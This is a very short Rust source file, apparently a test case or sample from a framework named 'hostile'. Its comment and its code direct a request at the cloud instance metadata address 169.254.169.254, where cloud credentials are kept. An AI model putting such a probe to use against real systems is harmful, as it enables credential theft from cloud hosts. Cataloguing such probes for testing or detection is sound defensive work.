//! Asks the address where clouds keep their credentials.

use hostile::Ask;

hostile::report!(|machine_id, comment| {
    Ask::ordered(&machine_id, &comment)
        .authority("169.254.169.254")
        .send()
});
